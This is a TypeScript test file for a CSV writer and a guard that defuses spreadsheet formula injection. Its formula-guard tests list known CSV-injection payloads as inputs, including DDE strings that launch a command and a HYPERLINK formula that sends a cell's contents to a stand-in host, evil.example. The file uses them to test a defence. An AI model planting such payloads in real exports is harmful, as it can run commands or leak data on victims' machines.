import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { CsvReader } from "../reading/csv-reader.ts";
import { csvHeader, csvLine } from "./csv.ts";
import { guardFormula, unguardFormula } from "./formula.ts";
import type { RecordValues } from "./record.ts";

/** Writes rows and reads them back, cut into pieces of so many characters. */
function roundTrip(rows: readonly RecordValues[], lists: readonly string[] = [], piece = 7) {
  const width = rows[0]?.length ?? 1;
  const names = Array.from({ length: width }, (_, position) => `f${position}`);
  const text = csvHeader(names) + rows.map(csvLine).join("");
  const reader = new CsvReader(
    names.map((name) => ({ name, type: lists.includes(name) ? "text-list" : "text" })),
  );
  const read: RecordValues[] = [];
  for (let at = 0; at < text.length; at += piece) {
    read.push(...reader.push(text.slice(at, at + piece)));
  }
  return [...read, ...reader.end()];
}

describe("the CSV writer", () => {
  test("follows RFC 4180 and keeps empty texts apart from missing values", () => {
    expect(
      csvHeader(["a", "b"]) + csvLine(['say "hi", now', null]) + csvLine(["", "two\r\nlines"]),
    ).toBe('a,b\r\n"say ""hi"", now",\r\n"","two\r\nlines"\r\n');
  });

  test("writes a list as JSON", () => {
    expect(csvLine([["a", 'b"c']])).toBe('"[""a"",""b\\""c""]"\r\n');
  });

  test("gives back every text that it was given, wherever its pieces are cut", () => {
    const value = fc.oneof(
      fc.string({ unit: "grapheme" }),
      fc.string({
        unit: fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "1", "."),
      }),
      fc.constant(null),
    );
    const row = fc.tuple(value, value, value);
    const rows = fc.array(row, { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(rows, fc.integer({ min: 1, max: 40 }), (given, piece) => {
        expect(roundTrip(given, [], piece)).toEqual(given);
      }),
    );
  });

  test("gives back every list that it was given", () => {
    const rows = [[["a", "b,c", '"']], [[]], [null]];
    expect(roundTrip(rows, ["f0"])).toEqual(rows);
  });
});

describe("the formula guard", () => {
  /** After OWASP "CSV Injection" and the payloads published with CVE reports of exporting tools. */
  test.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "-",
    "+",
    "-1e5",
    "+49 30 1234567",
    "-1,5",
    "=",
  ])("makes %j inert and gives it back", (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
    expect(unguardFormula(guardFormula(text))).toBe(text);
  });

  test.each([
    "-12.50",
    "+4915112345678",
    "0",
    "-3",
    "plain",
    "a=b",
    "'quoted'",
    "'",
    "",
    " =1",
    "O'Neill",
  ])("leaves %j alone", (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(unguardFormula(text)).toBe(text);
  });

  test("can always be taken off again", () => {
    const text = fc.string({ unit: fc.constantFrom("'", "=", "-", "+", "@", "1", ".", "a", "\t") });
    fc.assert(fc.property(text, (value) => unguardFormula(guardFormula(value)) === value));
  });

  test("leaves nothing that a spreadsheet would run", () => {
    const text = fc.string({ unit: fc.constantFrom("'", "=", "-", "+", "@", "1", ".", "a", "\t") });
    fc.assert(
      fc.property(text, (value) => {
        const guarded = guardFormula(value);
        expect(/^[=+\-@\t\r\n]/u.test(guarded) && !/^[+-]?\d+(?:\.\d+)?$/u.test(guarded)).toBe(
          false,
        );
      }),
    );
  });
});
